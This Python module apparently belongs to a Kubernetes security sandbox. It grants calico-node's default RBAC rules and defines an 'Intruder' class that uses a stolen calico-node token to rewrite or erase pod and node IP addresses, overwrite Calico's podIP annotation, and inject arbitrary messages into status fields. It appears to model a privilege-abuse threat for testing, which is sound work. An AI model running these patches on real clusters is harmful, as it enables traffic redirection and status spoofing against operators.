"""An attacker with the token of a calico-node pod, who rewrites the status of pods and nodes.

It has the operator's rights for calico-node's account; the cluster itself has no fault.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from sandbox.api import NAMESPACES, NODES, Api, quoted
from sandbox.calico.components import CALICO_SYSTEM

if TYPE_CHECKING:
    from collections.abc import Sequence

    from sandbox.calico.world import Pod, World

_NAME = "calico-node"
_RBAC = "/apis/rbac.authorization.k8s.io/v1"
# ClusterRole calico-node: the rules about pods and nodes in operator:pkg/render/node.go nodeRole, which equal those in
# calico:charts/calico/templates/calico-node-rbac.yaml.
_RULES: tuple[dict[str, Any], ...] = (
    {"apiGroups": [""], "resources": ["pods", "nodes", "namespaces"], "verbs": ["get"]},
    {"apiGroups": [""], "resources": ["pods", "namespaces", "serviceaccounts"], "verbs": ["list", "watch"]},
    {"apiGroups": [""], "resources": ["nodes"], "verbs": ["get", "list", "watch"]},
    {"apiGroups": [""], "resources": ["nodes/status"], "verbs": ["patch", "update"]},
    {"apiGroups": [""], "resources": ["pods/status"], "verbs": ["patch"]},
)
_ANNOTATION = "cni.projectcalico.org/podIP"  # Calico's own copy of a pod's address


def grant(world: World) -> None:
    """Gives calico-node's account the operator's default rights."""
    world.ensure(f"{_RBAC}/clusterroles", "ClusterRole", {"rules": list(_RULES)}, _NAME, optional=True)
    bound = {
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": _NAME},
        "subjects": [{"kind": "ServiceAccount", "namespace": CALICO_SYSTEM, "name": _NAME}],
    }
    world.ensure(f"{_RBAC}/clusterrolebindings", "ClusterRoleBinding", bound, _NAME, optional=True)


class Intruder:
    """Rewrites the status of its own and all other pods and nodes, in particular their addresses.

    Args:
        api: A client with the stolen token.
    """

    def __init__(self, api: Api) -> None:
        self._api = api

    def rewrite_pod(self, pod: Pod, addresses: Sequence[str]) -> None:
        """Gives a pod other addresses, for itself and its host; without addresses, erases them.

        It also rewrites Calico's annotation: the right to patch the status covers it.
        """
        first = addresses[0] if addresses else None
        listed = [{"ip": address} for address in addresses] or None
        status = {"podIP": first, "podIPs": listed, "hostIP": first, "hostIPs": listed}
        metadata = {"annotations": {_ANNOTATION: first}}
        path = f"{NAMESPACES}/{pod.namespace}/pods/{quoted(pod.name)}/status"
        self._api.patch(path, {"metadata": metadata, "status": status})

    def tell_of_pod(self, pod: Pod, message: str) -> None:
        """Writes a message of any length into a pod's status."""
        path = f"{NAMESPACES}/{pod.namespace}/pods/{quoted(pod.name)}/status"
        self._api.patch(path, {"status": {"message": message}})

    def tell_of_node(self, node: str, message: str) -> None:
        """Writes a message of any length into a node's network condition, as calico-node does."""
        condition = {"type": "NetworkUnavailable", "status": "False", "reason": "CalicoIsUp", "message": message}
        self._api.patch(f"{NODES}/{quoted(node)}/status", {"status": {"conditions": [condition]}})

    def rewrite_node(self, node: str, addresses: Sequence[str]) -> None:
        """Gives a node other addresses; without addresses, erases them."""
        listed = [{"type": "InternalIP", "address": address} for address in addresses]
        self._api.patch(f"{NODES}/{quoted(node)}/status", {"status": {"addresses": listed}})
